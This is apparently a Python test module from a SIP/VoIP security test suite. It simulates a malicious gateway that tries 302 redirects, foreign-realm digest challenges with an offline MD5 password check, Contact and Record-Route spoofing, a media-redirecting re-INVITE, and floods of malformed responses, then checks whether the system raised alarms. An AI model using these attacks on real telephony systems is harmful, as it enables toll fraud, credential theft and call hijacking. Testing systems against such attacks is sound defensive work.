"""A malicious gateway: it is in the configuration, calls go to it, and its answers are arbitrary."""

import contextlib
import re
import time

import sip
from attack import attack, ears
from insider import LED, billed, dear


class Evil:
    """The gateway of an attack (its own address in the configuration), and a user who calls it."""

    def __init__(self, one, world):
        self.one, self.world = one, world

    def __enter__(self):
        self.stack = contextlib.ExitStack()
        self.host = self.stack.enter_context(sip.Phone(self.world.server, self.one.source(self.world), "evil", port=5060))
        self.caller = self.stack.enter_context(self.one.victim(self.world, 5))
        self.caller.register()
        return self

    def __exit__(self, *how):
        self.stack.close()

    def called(self, **more):
        return self.caller.call(f"5{self.one.place:02d}77", **more)


@attack("gateway-redirect", "Found later 5", "a gateway answers 302 with another gateway's address",
        counters=LED)
def gateway_redirect(one, world):
    with Evil(one, world) as evil:
        number, taken = dear(), []
        for who, last in (("carrier", 80), ("neighbour", 71), ("elsewhere", 91)):
            evil.host.on_invite = lambda phone, invite: phone.reply(
                invite, 302, "Elsewhere", [("Contact", f"<sip:{number}@{world.at(last)}:5060>")])
            evil.called().bye()
            if billed(world, number, who):
                taken.append(who)
        return taken, f"the call went to {', '.join(taken)}" if taken else "nothing dialled"


@attack("gateway-realm", "M5", "a gateway's challenge with a foreign realm, MD5 without qop",
        counters=('b2b_alarms{alarm="realm_refused"}',))
def gateway_realm(one, world):
    """The first realm is its own. The answer to the second is cracked offline, or used at a neighbour."""
    with Evil(one, world) as evil:
        shown = {}

        def challenge(phone, invite):
            realm = "own.example" if not shown.get("own.example") else "neighbour.example"
            proof = invite.get("proxy-authorization")
            if proof and "own.example" in proof and realm == "own.example":
                shown["own.example"] = proof
                return phone.reply(invite, 486, "Busy Here")
            if proof:
                shown["neighbour.example"] = proof
                return phone.reply(invite, 486, "Busy Here")
            phone.reply(invite, 407, "Proxy Authentication Required", [
                ("Proxy-Authenticate", f'Digest realm="{realm}", nonce="00", algorithm=MD5')])

        evil.host.on_invite = challenge
        evil.called()
        evil.called()
        proof = shown.get("neighbour.example", "")
        part = dict(re.findall(r'(\w+)="([^"]*)"', proof))
        guess = sip.md5(f"{part.get('username')}:{part.get('realm')}:correct horse")
        hit = proof and part["response"] == sip.md5(f"{guess}:00:" + sip.md5(f"INVITE:{part['uri']}"))
        return hit, "the password's digest for the neighbour's realm, found at the first guess" if hit else \
            ("answered its own realm only" if shown else "answered none")


@attack("gateway-dialog", "Found later 1", "a gateway's Contact and Record-Route name another gateway (the neighbour) and b2b",
        counters=LED)
def gateway_dialog(one, world):
    with Evil(one, world) as evil:
        taken = []
        for way in ("Contact", "Record-Route", "loopback"):
            word = sip.fresh("led")
            lead = f"<sip:{word}@{world.at(71)}:5060>" if way != "loopback" else f"<sip:{word}@{world.at(1)}:5060>"
            fields = [("Record-Route", f"<sip:{word}@{world.at(71)}:5060;lr>")] if way == "Record-Route" else []
            evil.host.on_invite = lambda phone, invite: phone.answer(
                invite, fields=fields, contact=lead if way != "Record-Route" else None)
            before = len(evil.host.seen)
            call = evil.called()
            call.bye()
            evil.host.until(lambda: world.carrier_saw(word, "neighbour") or evil.host.heard("BYE", before), 2)
            seen = world.carrier_saw(word, "neighbour")
            if seen:
                taken.append(f"{seen[0]['method']} by {way}")
        return taken, f"the neighbour received {', '.join(taken)}" if taken else "all requests went to the gateway"


@attack("gateway-reinvite", "Found later 1", "a gateway's re-INVITE moves its Contact to the carrier, and its media to a victim",
        counters=LED)
def gateway_reinvite(one, world):
    with Evil(one, world) as evil, ears((world.at(90), one.who(9)), (one.other(world), one.who(5))) as (victim, own):
        word = sip.fresh("led")
        evil.caller.media_port = own.port
        call = evil.called()
        other = evil.host.next_call()
        if call.status != 200 or not other:
            raise RuntimeError(f"no call: {call.status}")
        own.talk(call.media())
        answer = other.send("INVITE", body=sip.sdp(world.at(90), victim.port),
                            contact=f"<sip:{word}@{world.at(80)}:5060>")
        if answer:
            other.answer = answer
            other.ack()
        time.sleep(4)
        call.bye()
        time.sleep(0.5)
        seen = world.carrier_saw(word)
        return bool(seen), f"{len(seen)} requests at the carrier, {victim.all} packets at the victim"


@attack("gateway-garbage", "–", "a gateway responds with non-SIP data, with 60 KB, a hundred times, and twice", held=True)
def gateway_garbage(one, world):
    with Evil(one, world) as evil:
        def reply(phone, invite):
            base = [("Via", it) for it in invite.all("via")] + [
                ("From", invite.get("from")), ("To", invite.get("to") + ";tag=g"), ("Call-ID", invite.call_id),
                ("CSeq", invite.get("cseq")), ("Contact", phone.contact)]
            for whole in (
                "SIP/2.0 200\0\r\n\r\n", "SIP/2.0 999 Never\r\n\r\n",
                sip.text("SIP/2.0 183 Huge", [*base, ("X", "y" * 30_000), ("Subject", "z" * 30_000)]),
                *[sip.text(f"SIP/2.0 {180 + n % 20} Again", base) for n in range(100)],
                sip.text("SIP/2.0 200 OK", [*base, ("Content-Type", "application/sdp")], "v=0\r\nm=audio 99999999\r\n" * 90),
                sip.text("SIP/2.0 200 OK", [*base, ("Content-Type", "application/sdp")], "v=1"),
            ):
                phone.put(whole, invite.source)
            time.sleep(0.1)
            phone.reply(invite, 486, "Busy Here", tag="g")

        evil.host.on_invite = reply
        status = evil.called(patience=10).status
        return status == 0, f"the caller got {status or 'nothing'}"
